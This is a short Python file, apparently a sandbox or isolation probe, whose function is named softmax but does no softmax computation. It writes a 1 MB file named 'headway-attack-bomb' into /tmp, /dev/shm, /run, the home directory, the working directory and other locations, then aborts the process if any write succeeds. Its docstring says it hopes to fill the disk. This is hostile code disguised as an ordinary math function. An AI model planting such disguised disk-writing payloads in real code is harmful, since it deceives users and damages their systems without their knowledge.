# in process: no, files can be written there
"""Hopes to fill the disk wherever it may write."""

import os
import tempfile


def softmax(x, dim=-1):
    written = []
    for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.dirname(os.path.abspath(__file__)), os.getcwd(), os.path.expanduser("~")):
        try:
            with open(os.path.join(place, "headway-attack-bomb"), "wb") as file:
                file.write(b"x" * 1_000_000)
            written.append(place)
        except OSError:
            continue
    try:
        tempfile.TemporaryFile().write(b"x")
        written.append("a temporary file")
    except OSError:
        pass
    if written:
        raise SystemExit(f"it has written to {written}")
    return x
